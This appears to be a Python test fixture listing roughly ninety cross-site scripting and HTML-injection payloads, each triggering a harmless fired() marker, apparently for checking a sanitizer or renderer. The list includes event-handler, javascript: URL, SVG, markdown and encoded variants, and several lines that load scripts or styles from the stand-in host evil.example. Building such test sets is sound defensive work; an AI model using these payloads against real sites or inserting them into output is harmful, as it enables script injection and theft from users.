"""What a hostile document may hold: each payload calls ``fired()`` where anything of it runs."""

PAYLOADS = r"""
<script>fired()</script>
<SCRIPT>fired()</SCRIPT>
<script src="https://evil.example/x.js"></script>
</script><script>fired()</script>
</script ><script>fired()</script>
<!--<script>--><script>fired()</script>
<script type="module">fired()</script>
<script>/*</script><script>fired()//*/</script>
<scr<script>ipt>fired()</scr</script>ipt>
<img src=x onerror=fired()>
<img src=x onerror="fired()">
<IMG SRC=x OnErRoR=fired()>
<img/src=x/onerror=fired()>
<img src="x" onerror='fired()'
<img src=x:alert(1) onerror=fired()>
<image src=x onerror=fired()>
<svg onload=fired()>
<svg/onload=fired()>
<svg><script>fired()</script></svg>
<svg><animate onbegin=fired() attributeName=x dur=1s>
<svg><set onbegin=fired() attributeName=x>
<svg><a xlink:href="javascript:fired()"><text y=20>click</text></a></svg>
<svg><foreignObject><body onload=fired()></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=fired() xmlns=http://www.w3.org/2000/svg></svg>#x"></svg>
<math><mtext><script>fired()</script></mtext></math>
<math><maction actiontype="statusline#" xlink:href="javascript:fired()">click</maction></math>
<body onload=fired()>
<body onpageshow=fired()>
<iframe src="javascript:parent.fired()"></iframe>
<iframe srcdoc="<script>parent.fired()</script>"></iframe>
<iframe src="data:text/html,<script>parent.fired()</script>"></iframe>
<object data="javascript:fired()"></object>
<object data="data:text/html,<script>fired()</script>"></object>
<embed src="javascript:fired()">
<a href="javascript:fired()">click</a>
<a href="JaVaScRiPt:fired()">click</a>
<a href="java&#115;cript:fired()">click</a>
<a href="jav&#x09;ascript:fired()">click</a>
<a href=" javascript:fired()">click</a>
<a href="data:text/html,<script>fired()</script>">click</a>
<a href="vbscript:fired()">click</a>
<a href="https://ok.example/" onmouseover=fired()>over</a>
[click](javascript:fired())
[click](data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+)
![x](x"onerror="fired())
<javascript:fired()>
[a]: javascript:fired() "x"
<form action="javascript:fired()"><input type=submit autofocus onfocus=fired()></form>
<input autofocus onfocus=fired()>
<textarea autofocus onfocus=fired()></textarea>
<select autofocus onfocus=fired()></select>
<details open ontoggle=fired()>x</details>
<video><source onerror=fired()></video>
<audio src=x onerror=fired()></audio>
<video poster="javascript:fired()"></video>
<marquee onstart=fired()>x</marquee>
<style>@import "https://evil.example/x.css";</style>
<style onload=fired()></style>
<link rel=stylesheet href="https://evil.example/x.css" onload=fired()>
<link rel=prefetch href="https://evil.example/x">
<meta http-equiv="refresh" content="0;url=javascript:fired()">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<div style="background:url(https://evil.example/x)">x</div>
<div style="width:expression(fired())">x</div>
<p onclick=fired() style="position:fixed;inset:0">x</p>
<p tabindex=0 onfocus=fired()>x</p>
<template><script>fired()</script></template>
<noscript><p title="</noscript><img src=x onerror=fired()>"></noscript>
<title></title><img src=x onerror=fired()>
</textarea><img src=x onerror=fired()>
</style><img src=x onerror=fired()>
</blockquote></li></ol></main><img src=x onerror=fired()>
<![CDATA[<img src=x onerror=fired()>]]>
<!--><img src=x onerror=fired()>-->
<?xml-stylesheet href="javascript:fired()"?>
"><script>fired()</script>
'><img src=x onerror=fired()>
" autofocus onfocus=fired() x="
' onmouseover='fired()
`><img src=x onerror=fired()>
&lt;script&gt;fired()&lt;/script&gt;
&lt;img src=x onerror=fired()&gt;
&#60;script&#62;fired()&#60;/script&#62;
\u003cscript\u003efired()\u003c/script\u003e
\";fired();//
${fired()}
{{constructor.constructor('fired()')()}}
javascript:fired()
"}]</script><script>fired()</script>
"""
ALL = [line for line in PAYLOADS.strip().splitlines() if line]
